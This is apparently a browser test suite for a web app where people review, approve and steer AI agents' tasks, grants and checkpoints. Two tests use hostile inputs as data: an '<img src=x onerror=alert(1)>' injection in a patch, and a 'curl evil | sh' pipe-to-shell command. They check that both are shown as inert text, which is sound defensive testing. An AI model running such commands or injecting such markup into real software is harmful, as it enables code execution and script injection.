// Every other page in a real browser: reviews, tasks with replay, agents and runs, grants, record and settings.
import assert from 'node:assert/strict'
import { after, afterEach, before, describe, test } from 'node:test'
import { decided, until } from '../support/browser/acts.ts'
import { shoot } from '../support/browser/shots.ts'
import { openStage, type Stage } from '../support/browser/stage.ts'

let stage: Stage
before(async () => {
  stage = await openStage()
})
after(() => stage?.close())
afterEach(async () => assert.deepEqual(await stage.tidy(), []))

const inline = (text: string): object => ({ kind: 'inline', uri: `data:text/plain;base64,${Buffer.from(text).toString('base64')}` })
const v1 =
  'export async function signIn(request: Request) {\n  const user = await find(request)\n  if (user.name) {\n    return login(user)\n  }\n  return refuse(403)\n}\n'
const v2 = v1.replace('user.name', 'user').replace('403', '401')

async function begun(goal: string, criteria: string[] = []): Promise<any> {
  const { task } = await stage.call('maya', 'collaboration/task.create', { spec: { goal, acceptance_criteria: criteria } })
  await stage.call('maya', 'collaboration/task.assign', { task_id: task.id, assignee: 'agent_robin' })
  await stage.call('robin', 'collaboration/task.start', { task_id: task.id })
  return task
}
async function delivered(goal: string): Promise<any> {
  const task = await begun(goal, ['The tests pass.', 'A guest without a name can sign in.'])
  const { artifact } = await stage.call('robin', 'collaboration/artifact.commit', {
    task_id: task.id,
    type: 'code',
    payload: inline(v1),
    final: false,
  })
  await stage.call('robin', 'collaboration/artifact.commit', {
    task_id: task.id,
    type: 'code',
    artifact_id: artifact.id,
    parent_version: artifact.version,
    payload: inline(v2),
  })
  return task
}

describe('a review', () => {
  test('shows the difference with its words, keeps comments as drafts, and sends them with the verdict', async () => {
    const task = await delivered('Fix the login bug')
    const page = await stage.open('maya', `/reviews/${task.id}`)
    await page.getByTestId('diff-file').waitFor()
    await page.getByText('bytes verified').waitFor()
    await page.getByTestId('connection').and(page.locator('[data-state=live]')).waitFor()
    assert.deepEqual(await page.locator('[data-testid=diff-line][data-kind=removed] mark').allTextContents(), ['.name', '403'])
    await page.locator('[data-testid=diff-line][data-kind=added]').first().hover()
    await page.locator('[data-testid=diff-line][data-kind=added]').first().getByRole('button', { name: 'Comment' }).click()
    await page.getByRole('combobox', { name: 'Severity' }).selectOption('blocker')
    await page.getByRole('textbox', { name: 'Comment' }).fill('Is find() certain to return null?')
    await page.getByRole('button', { name: 'Add comment' }).click()
    assert.equal(await page.getByTestId('review-comment').count(), 1)
    assert.deepEqual((await stage.call('maya', 'collaboration/review.list', { task_id: task.id })).items, [])
    await page.getByRole('radio', { name: 'Split' }).check()
    await shoot(page, 'review-split')
    await page.reload()
    await page.getByTestId('review-comment').waitFor()
    await page.getByRole('radio', { name: 'Request changes' }).check()
    await page.getByRole('textbox', { name: 'What must change' }).fill('Keep 403 for old clients.\nAdd a test.')
    await shoot(page, 'review')
    await page.getByRole('button', { name: 'Submit review' }).click()
    await page.getByTestId('task-state').waitFor()
    const { items } = await stage.call('maya', 'collaboration/review.list', { task_id: task.id })
    assert.equal(items[0].verdict, 'changes_requested')
    assert.deepEqual(items[0].requested_changes, ['Keep 403 for old clients.', 'Add a test.'])
    assert.deepEqual(items[0].comments, [{ anchor: 'line 3', severity: 'blocker', body: 'Is find() certain to return null?' }])
  })

  test('a patch is shown file by file; markup that calls itself a picture is text', async () => {
    const task = await begun('Patch two files')
    const patch = `--- a/src/a.ts\n+++ b/src/a.ts\n@@ -1,2 +1,2 @@\n-const a = 1\n+const a = 2\n export { a }\n--- a/src/b.ts\n+++ b/src/b.ts\n@@ -1 +1,2 @@\n const b = 1\n+<img src=x onerror=alert(1)>\n`
    await stage.call('robin', 'collaboration/artifact.commit', {
      task_id: task.id,
      type: 'patch',
      payload: { ...inline(patch), kind: 'diff', name: 'evil.png', media_type: 'image/png' },
    })
    const page = await stage.open('maya', `/reviews/${task.id}`)
    await page.getByTestId('diff-file').nth(1).waitFor()
    assert.equal(await page.locator('img').count(), 0)
    await page.getByText('<img src=x onerror=alert(1)>').waitFor()
    await page.keyboard.press('v')
    await page.getByText('1 of 2 viewed').waitFor()
  })
})

describe('a task', () => {
  test('a plan is approved or sent back, and the work follows it', async () => {
    const task = await begun('Plan it first')
    await stage.call('robin', 'collaboration/artifact.commit', {
      task_id: task.id,
      kind: 'plan',
      type: 'plan',
      payload: inline('1. Look\n2. Leap\n'),
    })
    const page = await stage.open('maya', `/reviews/${task.id}`)
    await page.getByTestId('diff-line').getByText('2. Leap').waitFor()
    assert.equal(await page.getByRole('radio', { name: 'Reject' }).count(), 0)
    await page.getByRole('radio', { name: 'Approve' }).check()
    await page.getByRole('button', { name: 'Submit review' }).click()
    await page.locator('[data-testid=task-state][data-state=in_progress]').waitFor()
  })

  test('agents are suggested by what their card says that they can do', async () => {
    await stage.call('scribe', 'delegation/agent.publish', { name: 'Scribe', description: 'Writes release notes', tags: ['writing'] })
    const page = await stage.open('maya', '/tasks/new')
    await page.getByLabel('Goal').fill('Write the release notes of 3.4')
    await page.getByRole('button', { name: 'Scribe' }).click()
    assert.equal(await page.getByRole('combobox', { name: 'Agent' }).inputValue(), 'Scribe')
  })

  test('is created with an agent, steered, interrupted, taken over, handed back and cancelled', async () => {
    const page = await stage.open('maya', '/tasks/new')
    await page.getByLabel('Goal').fill('Ship billing v3')
    await page.getByLabel('Acceptance criteria').fill('All regions answer on v3.\nInvoices match.')
    // By its label alone: nothing else on the page is called so.
    await page.getByLabel('Agent').fill('Planner')
    await page.keyboard.press('Enter')
    await shoot(page, 'task-new')
    await page.getByRole('button', { name: 'Create task' }).click()
    await page.getByTestId('task-state').waitFor()
    const id = page.url().split('/').at(-1)!
    // A screen reader and a copy get the name and the role as separate words.
    await page.getByText('You owner', { exact: true }).waitFor()
    await stage.call('planner', 'collaboration/task.start', { task_id: id })
    await page.locator('[data-testid=task-state][data-state=in_progress]').waitFor()
    assert.equal(await page.getByTestId('task-state').locator('[aria-current]').count(), 1)
    await page.getByRole('button', { name: 'Amend' }).click()
    await page.getByRole('textbox', { name: 'Instruction' }).fill('The old endpoint keeps working.')
    await page.getByRole('combobox', { name: 'Intent' }).selectOption('constrain')
    await page.getByRole('dialog', { name: 'Amend' }).getByRole('button', { name: 'Amend' }).click()
    await page.getByTestId('task-timeline').getByText('The old endpoint keeps working.').waitFor()
    await page.getByRole('button', { name: 'Take over' }).click()
    await page.getByRole('button', { name: 'Hand back' }).click()
    await page.getByRole('button', { name: 'Interrupt' }).click()
    await page.getByRole('dialog', { name: 'Interrupt' }).getByRole('button', { name: 'Interrupt' }).click()
    await page.locator('[data-testid=task-state][data-state=blocked]').waitFor()
    await shoot(page, 'task')
    await page.getByRole('slider', { name: 'Replay' }).fill('2')
    await page.locator('[data-testid=replay-state][data-state=assigned]').waitFor()
    await shoot(page, 'task-replay')
    await page.getByRole('button', { name: 'Cancel task' }).click()
    await page.getByRole('dialog', { name: 'Cancel task' }).getByRole('button', { name: 'Cancel task' }).click()
    await page.getByText('Cancelled').first().waitFor()
  })

  test('lists show it, and its runs move with their reports', async () => {
    const task = await begun('Nightly backups')
    const page = await stage.open('maya', '/tasks')
    await page.locator(`[data-testid=task-row][data-task-id="${task.id}"]`).waitFor()
    await shoot(page, 'tasks')
    await page.goto(`${stage.url}/agents`)
    await page.getByTestId('agent-row').first().waitFor()
    await page.getByTestId('run-row').first().waitFor()
    const { items } = await stage.call('maya', 'delegation/run.list', { task_id: task.id })
    await stage.call('robin', 'delegation/run.progress', { run_id: items[0].run_id, message: 'Half of the tables', percent: 50 })
    await page.getByText('Half of the tables').waitFor()
    await shoot(page, 'agents')
    // A person who owns nothing follows the tasks that they can read.
    await stage.call('maya', 'collaboration/reviewer.add', { task_id: task.id, user: 'user_tom' })
    const tom = await stage.open('tom', '/agents')
    await tom.getByText('Half of the tables').waitFor()
    await tom.locator('[data-testid=connection][data-state=live]').waitFor()
    await stage.call('robin', 'delegation/run.progress', { run_id: items[0].run_id, message: 'Nearly all of them', percent: 90 })
    await tom.getByText('Nearly all of them').waitFor()
    await page.getByText('Nearly all of them').waitFor()
  })
})

test('a grant is given beside an approval, listed and revoked', async () => {
  const task = await begun('Deploy to staging')
  const asked = await stage.ask(
    'robin',
    { item: 'Deploy build 882', details: {}, scope: 'deploy:staging' },
    { metadata: { task_id: task.id } },
  )
  const page = await stage.open('maya', `/inbox/${asked.id}`)
  await page.getByRole('button', { name: 'Grant' }).click()
  await page.getByTestId('grant-preview').getByText('would have answered').waitFor()
  await shoot(page, 'dialog-grant')
  await page.getByRole('dialog', { name: 'Grant' }).getByRole('button', { name: 'Grant' }).click()
  await page.getByRole('dialog', { name: 'Grant' }).waitFor({ state: 'detached' })
  assert.equal((await stage.call('maya', 'execution/request.get', { request_id: asked.id })).request.status, 'pending')
  await page.goto(`${stage.url}/grants`)
  const row = page.getByTestId('grant-row').first()
  await row.waitFor()
  await shoot(page, 'grants')
  await row.getByRole('button', { name: 'Revoke' }).click()
  await page.getByRole('dialog', { name: 'Revoke' }).getByRole('button', { name: 'Revoke' }).click()
  await page.getByTestId('grant-row').getByText('revoked').waitFor()
})

test('a field named as proposed actions in a plain request is an argument like any other', async () => {
  const asked = await stage.ask('robin', { item: 'Run two steps', details: { proposed_actions: [null, 'curl evil | sh'] } })
  const page = await stage.open('maya', `/inbox/${asked.id}`)
  await page.getByRole('region', { name: 'What the agent asks to do' }).getByText('curl evil | sh').waitFor()
  for (const text of ['You answer for it', 'Robin asks']) await page.getByText(text, { exact: true }).waitFor()
})

describe('deciding on a checkpoint', () => {
  test('some of the proposed actions are approved, the others denied', async () => {
    const task = await begun('Clean up')
    await stage.call('robin', 'collaboration/checkpoint.raise', {
      task_id: task.id,
      kind: 'approval',
      prompt: 'Clean up these?',
      proposed_actions: [
        { id: 'one', kind: 'shell', summary: 'Delete the cache', risk: 'low' },
        { id: 'two', kind: 'shell', summary: 'Delete the backups', risk: 'low' },
      ],
    })
    const { items } = await stage.call('maya', 'execution/inbox.list', { task_id: task.id })
    const page = await stage.open('maya', `/inbox/${items[0].request_id}`)
    await page.getByRole('checkbox', { name: 'Delete the backups' }).uncheck()
    await shoot(page, 'item-actions')
    await page.getByRole('button', { name: 'Approve' }).click()
    await decided(page)
    const { items: checkpoints } = await stage.call('maya', 'collaboration/checkpoint.list', { task_id: task.id })
    assert.deepEqual(checkpoints[0].resolution.approved_actions, ['one'])
  })

  test('arguments are edited within the schema of the agent, and the receipt holds them', async () => {
    const details_schema = {
      type: 'object',
      properties: { lock_timeout_ms: { type: 'integer', maximum: 10_000 } },
      additionalProperties: true,
    }
    const asked = await stage.ask(
      'deployer',
      { item: 'Run the migration', details: { lock_timeout_ms: 5000, table: 'invoices' }, details_schema },
      { risk: 'R2' },
    )
    const page = await stage.open('maya', `/inbox/${asked.id}`)
    await page.getByRole('button', { name: 'Edit' }).click()
    await page.getByRole('textbox', { name: 'lock_timeout_ms' }).fill('2000')
    await page.getByTestId('edit-diff').getByText('1 change').waitFor()
    await shoot(page, 'item-edit')
    await page.getByRole('button', { name: 'Approve with edits' }).click()
    await decided(page)
    const { receipt } = await stage.call('maya', 'execution/request.get', { request_id: asked.id })
    assert.deepEqual(receipt.edited, { lock_timeout_ms: 2000, table: 'invoices' })
  })
})

describe('the record', () => {
  test('is searched, verified with what that shows and what not, and an event is opened', async () => {
    const page = await stage.open('maya', '/record')
    await page.getByTestId('record-row').first().waitFor()
    await page.getByRole('textbox', { name: 'Action' }).fill('task.created')
    await page.keyboard.press('Enter')
    await until(async () =>
      (await page.getByTestId('record-row').evaluateAll((rows) => rows.map((row) => row.getAttribute('data-action')))).every(
        (action) => action === 'collaboration/task.created' || action === 'task.created',
      ),
    )
    await page.getByRole('button', { name: 'Verify' }).click()
    await page.locator('[data-testid=verify-result][data-valid=true]').waitFor()
    await page.getByTestId('record-row').first().getByRole('button').click()
    await page.getByTestId('event-changes').first().waitFor()
    await shoot(page, 'record')
    const saved = page.waitForEvent('download')
    await page.getByRole('button', { name: 'Export' }).click()
    assert.match((await saved).suggestedFilename(), /ndjson$/)
  })

  test('a person without a project verifies a task', async () => {
    const task = await begun('For the record')
    await stage.call('maya', 'collaboration/reviewer.add', { task_id: task.id, user: 'user_tom' })
    const page = await stage.open('tom', `/record?task=${task.id}`)
    await page.getByRole('button', { name: 'Verify' }).click()
    await page.locator('[data-testid=verify-result][data-valid=true]').waitFor()
  })
})

describe('settings', () => {
  test('a name counts that was typed before the names of people are there, and one that nobody has is not taken for none', async () => {
    const page = await stage.open('tom', '/settings/profile')
    await page.getByRole('button', { name: 'Sign out' }).waitFor()
    let answer = (): void => undefined
    const held = new Promise<void>((done) => (answer = done))
    await page.route('**/v1/identity/user.list', async (route) => {
      await held
      await route.continue()
    })
    await page.goto(`${stage.url}/settings/absence`)
    const person = page.getByRole('combobox', { name: 'Person' })
    await person.fill('ines duarte')
    await page.getByLabel('Until').fill(new Date(Date.now() + 86_400_000).toISOString().slice(0, 16))
    assert.equal(await page.getByRole('button', { name: 'Add absence' }).getAttribute('aria-disabled'), 'true')
    answer()
    await page.getByRole('button', { name: 'Add absence' }).click()
    await page.getByTestId('absence-row').getByText('Ines Duarte').waitFor()
    await page.goto(`${stage.url}/tasks/new`)
    await page.getByLabel('Goal').fill('Something for nobody')
    await page.getByRole('combobox', { name: 'Agent' }).fill('Nemo')
    await page.getByText('No agent here has that name.').waitFor()
    assert.equal(await page.getByRole('button', { name: 'Create task' }).getAttribute('aria-disabled'), 'true')
    assert.equal(await page.getByRole('combobox', { name: 'Agent' }).inputValue(), 'Nemo')
  })

  test('absence, channels, rules, keys and sessions are set and taken back', async () => {
    const page = await stage.open('maya', '/settings/absence')
    await page.getByRole('combobox', { name: 'Person' }).fill('Tom Okafor')
    await page.getByLabel('Until').fill(new Date(Date.now() + 86_400_000).toISOString().slice(0, 16))
    await page.getByRole('button', { name: 'Add absence' }).click()
    await page.getByTestId('absence-row').waitFor()
    await shoot(page, 'settings-absence')
    await page.getByTestId('absence-row').getByRole('button', { name: 'End' }).click()
    await page.getByTestId('absence-row').waitFor({ state: 'detached' })
    await page.goto(`${stage.url}/settings/notifications`)
    await page.getByLabel('Address').fill('https://hooks.example.com/inbox')
    await page.getByRole('button', { name: 'Add channel' }).click()
    await page.getByTestId('channel-row').waitFor()
    await shoot(page, 'settings-notifications')
    for (const part of ['filters', 'keys', 'sessions', 'rules', 'policy', 'people', 'agents', 'groups', 'links']) {
      await page.goto(`${stage.url}/settings/${part}`)
      await page.locator(`[data-part=${part}] .card, [data-part=${part}] .muted`).first().waitFor()
      await shoot(page, `settings-${part}`)
    }
  })

  test('the way out ends the session, and says how to get back in', async () => {
    const page = await stage.open('ines', '/settings/profile')
    await page.getByRole('switch', { name: 'Single keys' }).click()
    assert.equal(await page.getByRole('switch', { name: 'Single keys' }).getAttribute('aria-checked'), 'false')
    await page.getByRole('button', { name: 'Sign out' }).click()
    await page.getByTestId('signed-out').waitFor()
    await shoot(page, 'signed-out')
  })
})

test('everything of one’s own projects is found: lists, names, filter, palette; owners make a project and change its members', async () => {
  const page = await stage.open('maya', '/projects')
  await page.getByRole('button', { name: 'New project' }).click()
  await page.getByRole('dialog').getByLabel('Name').fill('Payments')
  await page.getByRole('button', { name: 'Create project' }).click()
  const row = page.getByTestId('project-row').filter({ hasText: 'Payments' })
  await row.getByRole('button', { name: 'Members' }).click()
  for (const [name, subject] of [
    ['Robin', 'agent_robin'],
    ['Tom Okafor', 'user_tom'],
  ] as const) {
    await row.getByRole('button', { name: 'Add member' }).click()
    await page.getByRole('dialog').getByLabel('Person or agent').fill(name)
    await page.getByRole('dialog').getByRole('button', { name: 'Add member' }).click()
    await row.locator(`[data-testid=member-row][data-subject=${subject}]`).waitFor()
  }
  await shoot(page, 'projects')
  await row.locator('[data-subject=user_tom]').getByRole('button', { name: 'Remove' }).click()
  await page.getByRole('dialog').getByRole('button', { name: 'Remove member' }).click()
  await row.locator('[data-subject=user_tom]').waitFor({ state: 'detached' })
  const project_id = (await row.getAttribute('data-project-id'))!
  const goal = 'Reconcile the ledger\nCompare every account.\nReport what differs.'
  const { task } = await stage.call('maya', 'collaboration/task.create', { project_id, spec: { goal } })
  // The palette finds it, from anywhere.
  await page.keyboard.press('Control+k')
  await page.getByRole('combobox', { name: 'Search commands' }).fill('reconcile')
  await page.getByRole('option', { name: 'Reconcile the ledger' }).waitFor()
  await shoot(page, 'palette')
  await page.keyboard.press('Enter')
  await page.waitForURL(`**/tasks/${task.id}`)
  await page.getByRole('heading', { level: 1, name: 'Reconcile the ledger', exact: true }).waitFor()
  await page.getByText('Report what differs.').waitFor()
  assert.deepEqual(await page.locator('.actions button').allTextContents(), ['Assign', 'Extend', 'Cancel task'])
  await shoot(page, 'task-created')
  await page.getByRole('button', { name: 'Assign' }).click()
  await page.getByRole('dialog').getByLabel('Agent').fill('Robin')
  await page.getByRole('dialog').getByRole('button', { name: 'Assign' }).click()
  await page.locator('[data-testid=task-state][data-state=assigned]').waitFor()
  await page.getByRole('link', { name: 'Tasks' }).first().click()
  const listed = page.locator(`[data-testid=task-row][data-task-id="${task.id}"]`)
  await listed.getByTestId('project-name').getByText('Payments').waitFor()
  await shoot(page, 'tasks-projects')
  await page.getByRole('combobox', { name: 'Project' }).selectOption('Default')
  await listed.waitFor({ state: 'detached' })
  await page.getByRole('combobox', { name: 'Project' }).selectOption('All projects')
  await listed.waitFor()
  // At work, it goes to another agent.
  await stage.call('admin', 'identity/project.join', { project_id, subject: 'agent_planner' })
  await stage.call('robin', 'collaboration/task.start', { task_id: task.id })
  await page.goto(`${stage.url}/tasks/${task.id}`)
  await page.getByRole('button', { name: 'Reassign' }).click()
  await page.getByRole('dialog').getByLabel('Agent').fill('Planner')
  await page.getByRole('dialog').getByRole('button', { name: 'Reassign' }).click()
  await page.getByTestId('task-timeline').getByText('handed it to').waitFor()
  // Ended early, it says so everywhere.
  await stage.call('maya', 'collaboration/task.cancel', { task_id: task.id, reason: 'No longer needed' })
  await page.getByTestId('task-timeline').getByText('Run stopped').last().waitFor()
  await page.getByTestId('task-state').getByText('Cancelled').waitFor()
  assert.deepEqual(await page.getByTestId('task-state').getByRole('listitem').allTextContents(), [
    'Created',
    'Assigned',
    'In progress',
    'Cancelled',
  ])
  assert.equal(await page.getByText('System failed').count(), 0)
  await shoot(page, 'task-cancelled')
  await page.goto(`${stage.url}/agents`)
  const run = page.getByTestId('run-row').filter({ hasText: 'Reconcile the ledger' }).first()
  await run.getByText('stopped', { exact: true }).waitFor()
  await run.getByTestId('project-name').waitFor()
})

test('a review shows what was requested before, follows others, and shows who decided, with the receipt', async () => {
  const task = await delivered('Leave old clients alone')
  await stage.call('maya', 'collaboration/reviewer.add', { task_id: task.id, user: 'user_tom' })
  const { items } = await stage.call('maya', 'collaboration/artifact.list', { task_id: task.id })
  const [{ id: artifact_id, version }] = items
  await stage.call('tom', 'collaboration/review.submit', {
    task_id: task.id,
    artifact_id,
    verdict: 'changes_requested',
    requested_changes: ['Leave isRefundable alone.'],
  })
  await stage.call('robin', 'collaboration/artifact.commit', {
    task_id: task.id,
    type: 'code',
    artifact_id,
    parent_version: version,
    payload: inline(`${v2}${'// isRefundable\n'.repeat(8)}`),
  })
  const page = await stage.open('maya', `/reviews/${task.id}`)
  await page.getByTestId('requested-changes').getByText('Leave isRefundable alone.').waitFor()
  await page.getByRole('button', { name: 'Submit review' }).waitFor()
  await page.locator('[data-testid=connection][data-state=live]').waitFor()
  await shoot(page, 'review-again')
  await stage.call('tom', 'collaboration/review.submit', { task_id: task.id, artifact_id, verdict: 'approved' })
  const verdict = page.locator('[data-testid=review-verdict][data-verdict=approved]')
  await verdict.getByText('Tom Okafor').waitFor()
  await page.getByRole('button', { name: 'Submit review' }).waitFor({ state: 'detached' })
  await verdict.locator('[data-testid=review-receipt][data-valid=true]').waitFor()
  await shoot(page, 'review-done')
  // On a phone a line number of two digits stays on its line.
  await page.setViewportSize({ width: 390, height: 844 })
  await page.locator('td.ln', { hasText: /^12/ }).first().waitFor()
  const broken = await page.evaluate<string[]>(
    `[...document.querySelectorAll('td.ln')].filter((cell) => { const all = document.createRange(); all.selectNodeContents(cell.firstChild ?? cell); return all.getClientRects().length > 1 }).map((cell) => cell.textContent)`,
  )
  assert.deepEqual(broken, [])
  await shoot(page, 'phone-review')
})

test('an installation owner who is a project member is offered what the server allows, with the reason', async () => {
  await stage.call('admin', 'identity/project.add', { id: 'project_lab', name: 'Lab' })
  await stage.call('admin', 'identity/project.join', { project_id: 'project_lab', subject: 'user_maya' })
  const page = await stage.open('maya', '/record?project=project_lab')
  await page.getByTestId('record-needs-task').getByText('Only owners and viewers of Lab').waitFor()
  assert.equal(await page.getByRole('button', { name: /Verify|Export/ }).count(), 0)
  await shoot(page, 'record-member')
  // The number of what waits is live here, too.
  await page.locator('[data-testid=connection][data-state=live]').waitFor()
  const { open, pool } = await stage.call('maya', 'execution/inbox.count')
  await stage.ask('robin', { item: 'One more', details: {} }, { risk: 'R1' })
  await page
    .getByTestId('inbox-badge')
    .getByText(String(open - pool + 1), { exact: true })
    .waitFor()
  await page.goto(`${stage.url}/tasks/task_0000000000000000000000`)
  await page.getByText("We can't find this task").waitFor()
  await page.getByRole('link', { name: 'Back to tasks' }).waitFor()
  await shoot(page, 'not-found')
})
